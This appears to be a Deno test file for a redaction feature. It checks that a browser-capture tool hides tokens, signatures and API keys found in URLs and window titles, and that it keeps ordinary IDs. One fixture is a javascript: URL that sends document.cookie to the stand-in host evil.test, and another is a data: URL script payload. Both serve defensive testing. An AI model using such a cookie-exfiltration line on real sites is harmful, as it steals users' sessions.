/**
 * Issue 14, Secrets: the credentials a review found in today's outputs — unusual
 * parameter names, presigned-URL signatures, opaque path tokens, JWTs, tokens in window
 * titles, `javascript:`/`data:` URLs in steps — are withheld from every output format.
 */

import assert from "node:assert/strict";
import { loadTyper, redactUrl } from "../../src/entities/mod.ts";
import { browserCapture, everyOutput } from "./_secrets.ts";

const typer = await loadTyper();
const JWT =
  "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkphbmUifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";

// [url, the secret it carries]
const CASES: [string, string][] = [
  [
    "https://app.example.com/login?magic_link=Qm9iJ3MgbWFnaWMgbGluayB0b2tlbg",
    "Qm9iJ3MgbWFnaWMgbGluayB0b2tlbg",
  ],
  [`https://news.example.com/article?t=${JWT}`, JWT],
  [
    "https://cdn.example.com/v.mp4?x=1&k9=f3a9c2e1b7d64a5f8e0c1d2b3a4f5e6d",
    "f3a9c2e1b7d64a5f8e0c1d2b3a4f5e6d",
  ],
  [
    "https://bucket.s3.amazonaws.com/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20260704%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20260704T080000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
    "fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
  ],
  [
    "https://bucket.s3.amazonaws.com/report.pdf?X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20260704",
    "AKIAIOSFODNN7EXAMPLE",
  ],
  [
    "https://storage.googleapis.com/b/o.png?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Signature=8a3f2e9b1c7d4e6f0a5b8c2d9e1f3a7b6c4d8e2f0a9b1c3d5e7f9a2b4c6d8e0f",
    "8a3f2e9b1c7d4e6f0a5b8c2d9e1f3a7b6c4d8e2f0a9b1c3d5e7f9a2b4c6d8e0f",
  ],
  [
    "https://acct.blob.core.windows.net/c/f.txt?sv=2022-11-02&ss=b&srt=o&sp=rwdlac&se=2026-12-31T00:00:00Z&st=2026-07-04T00:00:00Z&spr=https&sig=K3yS1gN4tur3%2BAbC%2FdEf%3D",
    "K3yS1gN4tur3+AbC/dEf=",
  ],
  [
    "https://acct.blob.core.windows.net/c/f.txt?sv=2022-11-02&sp=rwdlac&se=2026-12-31T00:00:00Z&sig=abc",
    "rwdlac",
  ],
  [
    "https://acct.blob.core.windows.net/c/f.txt?sv=2022-11-02&sp=r&se=2031-01-02T03:04:05Z&sig=abc",
    "2031-01-02T03:04:05Z",
  ],
  ["https://shop.example.com/reset/3q2+7wXk9", "3q2+7wXk9"],
  ["https://team.example.com/invite/AbC9dEf2Gh", "AbC9dEf2Gh"],
  ["https://id.example.com/verify/Zx81Kq0PpL3mN7aB2cD4eF6g", "Zx81Kq0PpL3mN7aB2cD4eF6g"],
  [`https://api.example.com/session/${JWT}/view`, JWT],
  [
    "https://files.example.com/share/ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "16C7e42F292c6912E7710c838347Ae178B4a",
  ],
  [`https://app.example.com/#${JWT}`, JWT],
  [
    "https://app.example.com/#/confirm/9f8e7d6c5b4a39281706f5e4d3c2b1a0",
    "9f8e7d6c5b4a39281706f5e4d3c2b1a0",
  ],
];

Deno.test("redaction withholds credentials in unusual names, signatures and path tokens from every format", () => {
  const capture = browserCapture(CASES.map(([url]) => ({ url, title: "Page" })));
  const outputs = everyOutput(capture, typer);
  for (const [url, secret] of CASES) {
    for (const text of outputs) {
      assert.ok(!text.includes(secret), `${secret} leaked from ${url}`);
    }
  }
  // The outputs are not empty of URLs: the hosts and the kept words are there.
  assert.ok(outputs.some((t) => t.includes("bucket.s3.amazonaws.com/report.pdf")));
  assert.ok(outputs.some((t) => t.includes("shop.example.com/reset/REDACTED")));
});

Deno.test("redaction withholds tokens carried by window titles and element names", () => {
  const titles: [string, string][] = [
    [`Sign in – ${JWT} – Google Chrome`, JWT],
    [
      "Reset link https://x.example.com/reset?k=3f9a1c7e5b2d4f6a8c0e1b3d5f7a9c2e - Mail",
      "3f9a1c7e5b2d4f6a8c0e1b3d5f7a9c2e",
    ],
    ["token=Qk9CX1NFQ1JFVF9UT0tFTl8xMjM0 – Terminal", "Qk9CX1NFQ1JFVF9UT0tFTl8xMjM0"],
    ["Your invite: /invite/Kq7Zp2Lm9X (Slack)", "Kq7Zp2Lm9X"],
    ["API key sk_live_4eC39HqLyjWDarjtT1zdp7dc copied", "4eC39HqLyjWDarjtT1zdp7dc"],
  ];
  const capture = browserCapture(
    titles.map(([title], i) => ({ url: `https://site${i}.example.com/home`, title })),
  );
  const outputs = everyOutput(capture, typer);
  for (const [title, secret] of titles) {
    for (const text of outputs) {
      assert.ok(!text.includes(secret), `${secret} leaked from "${title}"`);
    }
  }
  // Ordinary words of the titles are kept.
  assert.ok(outputs.some((t) => t.includes("Sign in – REDACTED – Google Chrome")));
  assert.ok(outputs.some((t) => t.includes("API key sk_live_REDACTED copied")));
});

Deno.test("steps never show javascript: or data: URLs", () => {
  const capture = browserCapture([
    { url: "https://example.com/a", title: "A" },
    { url: "javascript:fetch('//evil.test/?c='+document.cookie)", title: "B" },
    { url: "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", title: "C" },
    { url: "https://example.com/b", title: "D" },
  ]);
  for (const text of everyOutput(capture, typer)) {
    assert.doesNotMatch(text, /javascript:|data:text|PHNjcmlwdD5/i);
  }
  assert.equal(redactUrl("JavaScript:alert(1)"), "javascript:REDACTED");
});

Deno.test("redactUrl() keeps ordinary ids: numbers, UUIDs, dates, git object ids, slugs", () => {
  for (
    const url of [
      "https://x.com/jack/status/1789012345678901234",
      "https://linear.app/acme/issue/ENG-123/fix-the-login-redirect-loop",
      "https://portal.azure.com/resource/550e8400-e29b-41d4-a716-446655440000/overview",
      "https://github.com/denoland/deno/commit/9f2c1e0b7d5a4c3b2a1f0e9d8c7b6a5f4e3d2c1b",
      "https://github.com/denoland/deno/tree/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567/cli",
      "https://news.example.com/2026/07/04/why-is-rust-hard-to-learn",
      "https://developer.mozilla.org/en-US/docs/Web/API/EventTarget/addEventListener",
      "https://example.com/releases/v1.2.3-beta.4+build.567",
      "https://example.com/search?q=deno+sqlite+wal+mode&page=2",
      "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    ]
  ) {
    assert.equal(redactUrl(url), url);
  }
});
